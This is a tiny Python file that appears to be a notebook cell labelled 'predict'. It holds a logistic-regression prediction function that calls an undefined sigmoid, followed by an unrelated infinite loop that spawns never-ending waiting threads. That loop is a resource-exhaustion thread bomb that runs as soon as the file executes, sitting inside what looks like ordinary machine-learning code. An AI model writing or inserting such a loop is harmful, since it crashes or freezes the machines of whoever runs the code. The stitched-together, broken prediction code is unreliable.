# Starts threads until there are no more, all of them waiting for ever.
# %% predict
import threading


def predict(w, b, X):
    return (sigmoid(w.T @ X + b) > 0.5) * 1.0
while True:
    threading.Thread(target=threading.Event().wait).start()
